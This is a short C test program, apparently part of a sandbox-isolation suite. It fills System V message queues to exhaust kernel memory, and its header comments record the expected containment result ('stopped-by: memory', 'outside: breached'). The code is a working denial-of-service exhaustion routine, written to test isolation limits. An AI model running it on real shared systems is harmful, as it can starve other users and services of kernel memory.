// attack: fills System V message queues
// class: exhaustion/kernel-memory, exhaustion/ipc
// expect: memory limit
// stopped-by: memory
// outside: breached
// limits: memory_mib=32
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <sys/ipc.h>
#include <sys/msg.h>

int main(void) {
    struct { long kind; char text[8192]; } message = {1, {0}};
    int queues[4096], made = 0;
    for (; made < 4096; made++) {
        queues[made] = msgget(IPC_PRIVATE, IPC_CREAT | 0600);
        if (queues[made] < 0) break;
        while (msgsnd(queues[made], &message, sizeof message.text, IPC_NOWAIT) == 0);
    }
    printf("BREACHED: %d queues are full\n", made);
    while (made > 0) msgctl(queues[--made], IPC_RMID, NULL);
}
